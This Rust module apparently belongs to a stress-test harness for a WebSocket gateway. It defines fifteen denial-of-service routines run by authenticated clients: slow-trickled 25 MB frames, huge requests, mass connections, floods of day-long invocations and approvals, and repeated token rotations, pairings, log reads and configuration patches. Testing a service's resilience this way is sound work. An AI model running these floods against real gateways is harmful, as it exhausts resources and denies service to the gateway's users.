//! Attacks by admitted clients: paired devices, nodes, and holders of the gateway's token. Each one
//! runs until [`Field::over`] is set, in protocols 3 and 4 by turns, as fast as one core allows.
//!
//! An attack never fails: a connection that is closed or rejected is opened again.

use std::io::{self, ErrorKind, Read, Write};
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::client::{Device, Dial, Who};
use crate::websocket::{Side, WebSocket};

/// Timeout of a single read or write. Also the pause of a client that waits for its turn.
const STEP: Duration = Duration::from_secs(5);
const PAUSE: Duration = Duration::from_millis(20);
/// Time after which the connections of an attack are opened anew: they answer no pings.
const ROUND: Duration = Duration::from_secs(15);
/// Size of the largest frame of an admitted client.
const LARGEST: usize = 25 * 1024 * 1024;
/// Connections of one of many devices.
const OPERATORS_OF_ONE: u32 = 6;
/// A day in milliseconds, the longest time that a caller can ask for.
const DAY: u64 = 86_400_000;

/// Attacks by name.
pub const ATTACKS: [(&str, Attack); 15] = [
    ("unread presence", unread_presence),
    ("reconnects", reconnects),
    ("begun frames", begun_frames),
    ("large parameters", large_parameters),
    ("connections", connections),
    ("presence entries", entries),
    ("calls without answers", calls),
    ("approvals", approvals),
    ("renames", renames),
    ("rotations", rotations),
    ("pairings", pairings),
    ("configuration changes", patches),
    ("logs.tail on 50 connections", tails),
    ("pictures on 50 connections", pictures),
    ("events of a node", node_events),
];

pub type Attack = fn(&Field);

/// Gateway to attack, and the counters of an attack.
pub struct Field<'a> {
    pub dial: Dial,
    pub token: &'a str,
    pub over: &'a AtomicBool,
    /// Bytes that the attack has sent, and answers that it has received.
    pub sent: &'a AtomicU64,
    pub answers: &'a AtomicU64,
}

/// Connection that is written and read without waiting.
pub struct Line {
    socket: WebSocket,
    bytes: Arc<[u8]>,
    /// Bytes of `bytes` that are written.
    at: usize,
    pub is_open: bool,
    pub received: u64,
    pub answers: u64,
}

impl Line {
    /// Creates a connection that sends `bytes`, which are whole frames.
    pub fn new(socket: WebSocket, bytes: Arc<[u8]>) -> Line {
        let is_open = socket.stream.set_nonblocking(true).is_ok();
        Line { socket, bytes, at: 0, is_open, received: 0, answers: 0 }
    }

    /// Writes without waiting, up to the offset `end`; returns the number of bytes written.
    pub fn write_to(&mut self, end: usize) -> usize {
        let rest = self.bytes.get(self.at..end).unwrap_or_default();
        let count =
            self.step(rest.len(), |line| line.socket.stream.write(&line.bytes[line.at..end]));
        self.at += count;
        count
    }

    /// Writes the frames again and again.
    pub fn repeat(&mut self) -> usize {
        if self.at == self.bytes.len() {
            self.at = 0;
        }
        self.write_to(self.bytes.len())
    }

    /// Reads what has arrived, and counts answers.
    pub fn drain(&mut self) -> usize {
        let (mut some, mut whole) = ([0; 1 << 16], 0);
        loop {
            let count = self.step(1, |line| match line.socket.stream.read(&mut some)? {
                0 => Err(ErrorKind::UnexpectedEof.into()),
                count => Ok(count),
            });
            if count == 0 {
                return whole;
            }
            whole += count;
            self.received += count as u64;
            let is_answer = |start: &&[u8]| start == b"\"type\":\"res\"";
            self.answers += some[..count].windows(12).filter(is_answer).count() as u64;
        }
    }

    fn step(&mut self, wanted: usize, work: impl FnOnce(&mut Line) -> io::Result<usize>) -> usize {
        if !self.is_open || wanted == 0 {
            return 0;
        }
        work(self).unwrap_or_else(|error| {
            self.is_open = error.kind() == ErrorKind::WouldBlock;
            0
        })
    }
}

/// Returns a request as a frame of a client. The mask is zero, which changes no byte.
pub fn request(method: &str, params: &str) -> Vec<u8> {
    let text = format!(r#"{{"type":"req","id":"a","method":"{method}","params":{params}}}"#);
    let mut frame = vec![0x81];
    match text.len() {
        length @ 0..126 => frame.push(0x80 | length as u8),
        length @ 126..0x1_0000 => {
            frame.push(0x80 | 126);
            frame.extend((length as u16).to_be_bytes());
        }
        length => {
            frame.push(0x80 | 127);
            frame.extend((length as u64).to_be_bytes());
        }
    }
    frame.extend([0; 4]);
    frame.extend(text.into_bytes());
    frame
}

/// Returns parameters of nearly [`LARGEST`] bytes: as many values as possible.
fn large() -> String {
    format!(r#"{{"nodeId":"none","list":[0{}]}}"#, ",0".repeat(LARGEST / 2 - 100))
}

impl Field<'_> {
    pub fn is_over(&self) -> bool {
        self.over.load(Ordering::Relaxed)
    }

    /// Performs a complete handshake.
    pub fn admit(&self, who: &Who) -> io::Result<WebSocket> {
        let mut stream = TcpStream::connect_timeout(&self.dial.to, STEP)?;
        stream.set_read_timeout(Some(STEP))?;
        stream.set_write_timeout(Some(STEP))?;
        stream.set_nodelay(true)?;
        let upgrade = self.dial.upgrade();
        stream.write_all(upgrade.as_bytes())?;
        let mut head = Vec::new();
        while !head.ends_with(b"\r\n\r\n") {
            let mut byte = [0];
            stream.read_exact(&mut byte)?;
            head.push(byte[0]);
        }
        let mut socket = WebSocket::new(stream, Side::Client, Vec::new());
        let challenge: Value = serde_json::from_str(&socket.read()?)?;
        let nonce = challenge["payload"]["nonce"].as_str().unwrap_or_default();
        let params = who.params(nonce);
        let sent = upgrade.len() + params.to_string().len();
        self.sent.fetch_add(sent as u64, Ordering::Relaxed);
        call(&mut socket, "connect", params)?;
        Ok(socket)
    }

    /// Performs a handshake as soon as the gateway permits it; `None` when the attack is over.
    pub fn insist(&self, who: &Who) -> Option<WebSocket> {
        while !self.is_over() {
            match self.admit(who) {
                Ok(socket) => return Some(socket),
                Err(_) => thread::sleep(PAUSE),
            }
        }
        None
    }

    /// Pairs a new device, which then connects by its key.
    pub fn pair(&self, who: Who) -> Option<Who> {
        let who = who.device(&Device::new());
        self.insist(&who.clone().token(self.token))?;
        Some(who)
    }

    fn device(&self, protocol: u32, scopes: &[&str]) -> Option<Who> {
        self.pair(Who::of(protocol).scopes(scopes))
    }

    /// Pairs a node that has the command `system.which`; returns its device id as well.
    pub fn node(&self, protocol: u32) -> Option<(Who, String)> {
        let who =
            self.pair(Who::of(protocol).offering(("linux", "Linux"), &["system.which"], &[]))?;
        let id = who.device.as_ref()?.id.clone();
        let mut admin = self.insist(&Who::v4().token(self.token))?;
        let list = call(&mut admin, "node.pair.list", json!({})).ok()?;
        let mine = list["pending"].as_array()?.iter().find(|one| one["nodeId"] == id)?.clone();
        call(&mut admin, "node.pair.approve", json!({ "requestId": mine["requestId"] })).ok()?;
        Some((who, id))
    }

    /// Opens this many connections of the client, as far as the gateway permits.
    fn lines(&self, who: &Who, count: usize, bytes: &Arc<[u8]>) -> Vec<Line> {
        let open = (0..count).take_while(|_| !self.is_over()).filter_map(|_| self.admit(who).ok());
        open.map(|socket| Line::new(socket, bytes.clone())).collect()
    }

    /// Connects operators of different devices. Half of them are pages, which are in the presence
    /// list; with more of them there would be no room in it for the attack.
    pub fn operators(&self, count: u32) -> io::Result<Vec<Line>> {
        let over = || io::Error::other("the attack is over");
        let mut lines = Vec::new();
        for number in 0..count / OPERATORS_OF_ONE {
            let who = self.device(3 + number / 2 % 2, &["read"]).ok_or_else(over)?;
            let who = if number % 2 == 0 { who.page() } else { who };
            for _ in 0..OPERATORS_OF_ONE {
                lines.push(Line::new(self.admit(&who)?, Arc::from([])));
                lines.iter_mut().for_each(|line| _ = line.drain());
            }
        }
        Ok(lines)
    }

    /// Works with all lines for [`ROUND`], or until all are closed.
    fn round(&self, lines: &mut [Line], mut work: impl FnMut(&mut Line) -> usize) {
        let begun = Instant::now();
        while !self.is_over() && begun.elapsed() < ROUND && lines.iter().any(|line| line.is_open) {
            let (mut moved, mut answers) = (0, 0);
            for line in lines.iter_mut() {
                let before = line.answers;
                moved += work(line);
                answers += line.answers - before;
            }
            self.answers.fetch_add(answers, Ordering::Relaxed);
            if moved == 0 {
                thread::sleep(Duration::from_micros(200));
            }
        }
        thread::sleep(PAUSE);
    }

    /// Sends these requests without pause on `count` connections of each client, and reads the
    /// answers.
    fn flood(&self, clients: &[Who], count: usize, bytes: Vec<u8>) {
        let bytes: Arc<[u8]> = bytes.into();
        while !self.is_over() {
            let mut lines: Vec<Line> =
                clients.iter().flat_map(|who| self.lines(who, count, &bytes)).collect();
            self.round(&mut lines, |line| {
                let sent = line.repeat();
                self.sent.fetch_add(sent as u64, Ordering::Relaxed);
                sent + line.drain()
            });
        }
    }
}

/// Returns the same device with another protocol.
fn speaking(who: &Who, protocol: u32) -> Who {
    let Who { protocol, sign, .. } = Who::of(protocol);
    Who { protocol, sign, ..who.clone() }
}

/// Sends a request and waits for its answer.
pub fn call(socket: &mut WebSocket, method: &str, params: Value) -> io::Result<Value> {
    let request = json!({ "type": "req", "id": "call", "method": method, "params": params });
    socket.send(&[request.to_string().as_bytes()])?;
    loop {
        let frame: Value = serde_json::from_str(&socket.read()?)?;
        if frame["type"] == "res" && frame["id"] == "call" {
            return match frame["ok"] == true {
                true => Ok(frame["payload"].clone()),
                false => Err(io::Error::other(frame["error"].to_string())),
            };
        }
    }
}

/// Pages of one read-only device that read nothing, while one of them reconnects.
pub fn unread_presence(field: &Field) {
    let Some(who) = field.device(4, &["read"]) else { return };
    while !field.is_over() {
        let begun = Instant::now();
        let page = |number: u32| speaking(&who, 3 + number % 2).page();
        let held: Vec<_> = (0..210).filter_map(|number| field.admit(&page(number)).ok()).collect();
        while !field.is_over() && begun.elapsed() < 2 * ROUND {
            if field.admit(&page(0)).is_err() {
                thread::sleep(PAUSE);
            }
        }
        drop(held);
    }
}

/// Known devices that connect and leave.
pub fn reconnects(field: &Field) {
    let Some(v3) = field.device(3, &["read"]) else { return };
    let Some(v4) = field.device(4, &["read"]) else { return };
    while !field.is_over() {
        for who in [&v3, &v4] {
            if field.admit(&who.clone().page()).is_err() {
                thread::sleep(PAUSE);
            }
        }
    }
}

/// Frames of 25 MB that are complete but for their end, of an administrator and of nodes.
pub fn begun_frames(field: &Field) {
    let Some(admin) = field.device(4, &["admin"]) else { return };
    let Some(reader) = field.device(3, &["read"]) else { return };
    let nodes = (0..4).filter_map(|number| field.node(3 + number % 2)).map(|(who, _)| who);
    let nodes: Vec<Who> = nodes.collect();
    let bytes: Arc<[u8]> = request("health", &large()).into();
    while !field.is_over() {
        let begun = Instant::now();
        let mut lines = field.lines(&admin, 10, &bytes);
        lines.extend(field.lines(&reader, 4, &bytes));
        nodes.iter().for_each(|who| lines.extend(field.lines(who, 2, &bytes)));
        field.round(&mut lines, |line| {
            // then a byte every 100 ms
            let trickle = begun.elapsed().as_millis() as usize / 100;
            line.write_to(bytes.len() - 1024 + trickle.min(1000)) + line.drain()
        });
    }
}

/// Whole requests of 25 MB, by a device that may call nothing that needs it and by one that may.
pub fn large_parameters(field: &Field) {
    let Some(reader) = field.device(3, &["read"]) else { return };
    let Some(writer) = field.device(4, &["read", "write"]) else { return };
    let health: Arc<[u8]> = request("health", &large()).into();
    let invoke: Arc<[u8]> = request("node.invoke", &large()).into();
    while !field.is_over() {
        let mut lines = field.lines(&reader, 2, &health);
        lines.extend(field.lines(&writer, 2, &invoke));
        field.round(&mut lines, |line| line.repeat() + line.drain());
    }
}

/// Connections of one read-only device, as many as it gets.
pub fn connections(field: &Field) {
    let Some(who) = field.device(4, &["read"]) else { return };
    let mut held = Vec::new();
    while !field.is_over() {
        match field.admit(&speaking(&who, 3 + held.len() as u32 % 2)) {
            Ok(socket) if held.len() < 1200 => held.push(Line::new(socket, Arc::from([]))),
            Ok(_) => held.clear(),
            Err(_) => thread::sleep(PAUSE),
        }
        if held.len() % 64 == 63 {
            held.retain_mut(|line| {
                line.drain();
                line.is_open
            });
        }
    }
}

/// Entries of the presence list: pages of one device, and reports of another.
pub fn entries(field: &Field) {
    let Some(who) = field.device(4, &["read"]) else { return };
    let Some(admin) = field.device(3, &["admin"]) else { return };
    let report = |number| json!({ "text": "here", "instanceId": format!("report {number}") });
    let reports: Vec<u8> =
        (0..256).flat_map(|number| request("system-event", &report(number).to_string())).collect();
    while !field.is_over() {
        let instance =
            |number: u32| json!({ "client": { "instanceId": format!("page {number}") } });
        let page = |number| speaking(&who, 3 + number % 2).page().patch(instance(number));
        let mut lines = field.lines(&admin, 1, &reports.clone().into());
        for number in (0..199).take_while(|_| !field.is_over()) {
            let page = field.admit(&page(number));
            lines.extend(page.map(|socket| Line::new(socket, Arc::from([]))));
            lines.iter_mut().take(1).for_each(|reports| _ = reports.repeat() + reports.drain());
        }
        field.round(&mut lines, |line| line.repeat() + line.drain());
    }
}

/// Calls to a node that does not answer, with the longest timeout.
pub fn calls(field: &Field) {
    let Some((node, id)) = field.node(4) else { return };
    let Some(v3) = field.device(3, &["read", "write"]) else { return };
    let Some(v4) = field.device(4, &["read", "write"]) else { return };
    let params = json!({ "nodeId": id, "command": "system.which", "params": { "bins": ["sh"] },
        "timeoutMs": DAY, "idempotencyKey": "k" });
    let bytes: Arc<[u8]> = request("node.invoke", &params.to_string()).repeat(1024).into();
    while !field.is_over() {
        let mut lines = field.lines(&node, 1, &Arc::from([]));
        lines.extend([&v3, &v4].iter().flat_map(|who| field.lines(who, 2, &bytes)));
        field.round(&mut lines, |line| line.write_to(line.bytes.len()) + line.drain());
    }
}

/// Approvals that wait for a day, and whose asker leaves.
pub fn approvals(field: &Field) {
    let Some(v3) = field.device(3, &["approvals"]) else { return };
    let Some(v4) = field.device(4, &["approvals"]) else { return };
    let ask = json!({ "command": "ls", "timeoutMs": DAY, "twoPhase": true }).to_string();
    let bytes: Arc<[u8]> = request("exec.approval.request", &ask).repeat(64).into();
    while !field.is_over() {
        let mut lines: Vec<Line> =
            [&v3, &v4].iter().flat_map(|who| field.lines(who, 1, &bytes)).collect();
        let begun = Instant::now();
        while !field.is_over() && begun.elapsed() < Duration::from_millis(200) {
            lines.iter_mut().for_each(|line| {
                line.write_to(bytes.len());
                line.drain();
            });
            thread::sleep(PAUSE);
        }
    }
}

/// A device that renames itself.
pub fn renames(field: &Field) {
    let Some(who) = field.device(4, &["pairing"]) else { return };
    let Some(id) = who.device.as_ref().map(|device| device.id.clone()) else { return };
    let label = |number| json!({ "deviceId": id, "label": format!("name {number}") }).to_string();
    let frames = (0..64).flat_map(|number| request("device.pair.rename", &label(number)));
    field.flood(std::slice::from_ref(&who), 2, frames.collect());
}

/// A device that rotates its token.
pub fn rotations(field: &Field) {
    let Some(who) = field.device(3, &["pairing"]) else { return };
    let Some(id) = who.device.as_ref().map(|device| device.id.clone()) else { return };
    let own = json!({ "deviceId": id, "role": "operator" }).to_string();
    field.flood(std::slice::from_ref(&who), 2, request("device.token.rotate", &own));
}

/// A holder of the token that pairs devices and removes them.
pub fn pairings(field: &Field) {
    let Some(mut admin) = field.insist(&Who::v4().token(field.token)) else { return };
    while !field.is_over() {
        let device = Device::new();
        let who = Who::of(3 + u32::from(device.id.as_bytes()[0] % 2)).token(field.token);
        let paired = field.admit(&who.device(&device)).is_ok();
        let removed = call(&mut admin, "device.pair.remove", json!({ "deviceId": device.id }));
        if !paired || removed.is_err() {
            thread::sleep(PAUSE);
            let Some(again) = field.insist(&Who::v4().token(field.token)) else { return };
            admin = again;
        }
    }
}

/// An administrator that changes the configuration.
pub fn patches(field: &Field) {
    let Some(who) = field.device(3, &["admin"]) else { return };
    while !field.is_over() {
        let Some(mut admin) = field.insist(&who) else { return };
        let mut change = |number: u32| -> io::Result<()> {
            let hash = call(&mut admin, "config.get", json!({}))?["hash"].clone();
            let origin = format!("https://{number}.example");
            let raw = json!({ "gateway": { "controlUi": { "allowedOrigins": [origin] } } });
            let params = json!({ "raw": raw.to_string(), "baseHash": hash,
                "replacePaths": ["gateway.controlUi.allowedOrigins"] });
            call(&mut admin, "config.patch", params).map(drop)
        };
        let _ = (0..).take_while(|_| !field.is_over()).try_for_each(&mut change);
        thread::sleep(PAUSE);
    }
}

/// Reads of the whole log on 50 connections.
pub fn tails(field: &Field) {
    let Some(v3) = field.device(3, &["read"]) else { return };
    let Some(v4) = field.device(4, &["read"]) else { return };
    let whole = json!({ "limit": 5000, "maxBytes": 1_000_000 }).to_string();
    field.flood(&[v3, v4], 25, request("logs.tail", &whole));
}

/// Setup codes with their pictures on 50 connections.
pub fn pictures(field: &Field) {
    let Some(v3) = field.device(3, &["admin"]) else { return };
    let Some(v4) = field.device(4, &["admin"]) else { return };
    field.flood(&[v3, v4], 25, request("device.pair.setupCode", "{}"));
}

/// Statistics of a node, and wake words of an operator, that change all the time.
pub fn node_events(field: &Field) {
    let Some((node, _)) = field.node(3) else { return };
    let Some(writer) = field.device(4, &["read", "write"]) else { return };
    let stats = |number: u64| {
        let text = json!({ "cpuCount": 4, "memoryTotalBytes": 8, "memoryFreeBytes": number });
        json!({ "event": "node.host.stats", "payloadJSON": text.to_string() }).to_string()
    };
    let words = |number: u64| json!({ "triggers": [format!("word {number}")] }).to_string();
    let stats: Vec<u8> = (0..64).flat_map(|at| request("node.event", &stats(at))).collect();
    let words: Vec<u8> = (0..64).flat_map(|at| request("voicewake.set", &words(at))).collect();
    thread::scope(|scope| {
        scope.spawn(|| field.flood(&[node], 1, stats));
        field.flood(&[writer], 1, words);
    });
}
